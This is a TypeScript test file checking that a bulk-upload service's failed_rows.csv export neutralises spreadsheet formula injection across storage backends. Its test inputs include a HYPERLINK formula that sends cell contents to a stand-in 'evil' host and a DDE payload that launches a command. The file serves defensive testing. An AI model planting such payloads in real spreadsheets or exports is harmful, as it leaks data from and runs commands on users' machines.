import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { neutralizeFormula } from '../../src/bulk/failed-rows.js';
import { startTestApp, type TestApp } from '../support/app.js';
import { BACKENDS } from '../support/backends.js';

// failed_rows.csv is opened in spreadsheets: a cell that a spreadsheet would run as a formula comes back
// with a leading `'`, while negative amounts still read as numbers.

test('which cells are neutralised, and which stay as they are', () => {
  const neutralised = ['=1+1', '=HYPERLINK("http://x","y")', '+1', '+12.34', '@SUM(A1:A2)', '\tx', '\r=1', '-A1', '-1+cmd|\' /C calc\'!A0', '-SUM(A1)', '-', '--1', '-1-1', '-12.34)'];
  const kept = ['-12.34', '-1,234.56', '-.5', '-0', '-1e3', '-12.', 'plain', ' =x', '1=1', '12.34', '', "'=already"];
  for (const cell of neutralised) assert.equal(neutralizeFormula(cell), `'${cell}`, JSON.stringify(cell));
  for (const cell of kept) assert.equal(neutralizeFormula(cell), cell, JSON.stringify(cell));
});

for (const backend of BACKENDS) {
  describe(`failed rows download against formula injection [${backend}]`, () => {
    let t: TestApp;
    before(async () => {
      t = await startTestApp(backend);
      assert.equal((await t.call('POST', '/v1/data_streams', { key: 'f', name: 'f' })).status, 201);
    });
    after(async () => {
      await t.close();
    });

    async function download(id: number) {
      const res = await t.call('GET', `/v1/bulk_requests/${id}/failed_rows.csv`);
      assert.equal(res.status, 200);
      assert.equal(res.headers['x-content-type-options'], 'nosniff');
      return (res.body as string).trim().split('\r\n');
    }

    test('CSV uploads: formula cells come back with a leading quote, negative amounts as they were', async () => {
      const csv = [
        'date,amount,description,external_id',
        '2026-13-01,-12.34,=HYPERLINK("http://evil/?"&A1),e1',
        '2026-13-02,-1+cmd|\' /C calc\'!A0,@SUM(A1:A9),e2',
        '2026-13-03,+5,"\tTab",-A1',
        '2026-13-04,"-1,234.56",plain,e4',
      ].join('\n');
      const res = await t.app.inject({ method: 'POST', url: '/v1/data_streams/f/uploads', headers: { 'x-api-key': t.key, 'content-type': 'text/csv' }, payload: csv });
      assert.equal(res.statusCode, 202, res.body);
      await t.drain();
      const lines = await download(JSON.parse(res.body).id);
      assert.equal(lines[0], 'date,amount,description,external_id,row_number,error_code,error_message');
      assert.ok(lines[1]!.startsWith(`2026-13-01,-12.34,"'=HYPERLINK(""http://evil/?""&A1)",e1,2,`), lines[1]);
      assert.ok(lines[2]!.startsWith(`2026-13-02,'-1+cmd|' /C calc'!A0,'@SUM(A1:A9),e2,3,`), lines[2]);
      assert.ok(lines[3]!.startsWith(`2026-13-03,'+5,'\tTab,'-A1,4,`), JSON.stringify(lines[3]));
      assert.ok(lines[4]!.startsWith('2026-13-04,"-1,234.56",plain,e4,5,'), lines[4]);
    });

    test('JSON bulk requests: the same for their fields and error columns', async () => {
      const created = await t.call('POST', '/v1/records/bulk', {
        records: [
          { date: 'bad', data_stream_key: 'f', amount: -1234, direction: 'debit', description: '=cmd', external_id: '@x' },
          { date: '2026-01-01', data_stream_key: 'f', amount: 5, direction: 'sideways', description: '-2+3', external_id: '-7' },
        ],
      });
      await t.drain();
      const lines = await download(created.body.id);
      assert.ok(lines[1]!.startsWith(`bad,f,-1234,,debit,'=cmd,'@x,,1,invalid_date,`), lines[1]);
      assert.ok(lines[2]!.startsWith(`2026-01-01,f,5,,sideways,'-2+3,-7,,2,invalid_direction,`), lines[2]);
    });
  });
}
